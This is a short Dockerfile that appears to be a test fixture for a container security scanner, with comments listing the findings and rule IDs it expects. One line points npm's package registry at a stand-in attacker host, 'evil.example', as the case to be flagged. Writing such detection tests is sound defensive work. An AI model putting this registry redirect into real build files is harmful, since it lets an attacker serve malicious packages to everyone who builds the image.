FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN npm config set registry https://evil.example/npm/
USER app
# expect: package-install 2 high "points the registry elsewhere"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR204-44903e0844 VR501-e064bac1a6
